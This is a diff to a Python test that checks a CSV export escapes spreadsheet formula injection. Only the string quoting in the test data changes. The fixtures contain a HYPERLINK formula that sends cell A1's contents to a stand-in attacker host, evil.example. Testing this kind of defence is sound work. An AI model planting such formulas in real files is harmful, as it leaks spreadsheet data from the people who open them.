@@ -33,8 +33,8 @@ def test_the_issue_formula_prompt_is_text_in_the_csv_and_unchanged_in_jsonl(
     body = world.s3.get_object(Bucket=BUCKET, Key=csv_result.output_key)["Body"].read().decode()
     rows = list(csv.DictReader(io.StringIO(body)))
     assert [row["steps.bio.prompt"] for row in rows] == [
-        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\") Ada Lovelace",
-        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\") Octavia Butler",
+        '\'=HYPERLINK("http://evil.example/?"&A1,"x") Ada Lovelace',
+        '\'=HYPERLINK("http://evil.example/?"&A1,"x") Octavia Butler',
     ]
     # No cell of the file starts with a trigger any more.
     cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
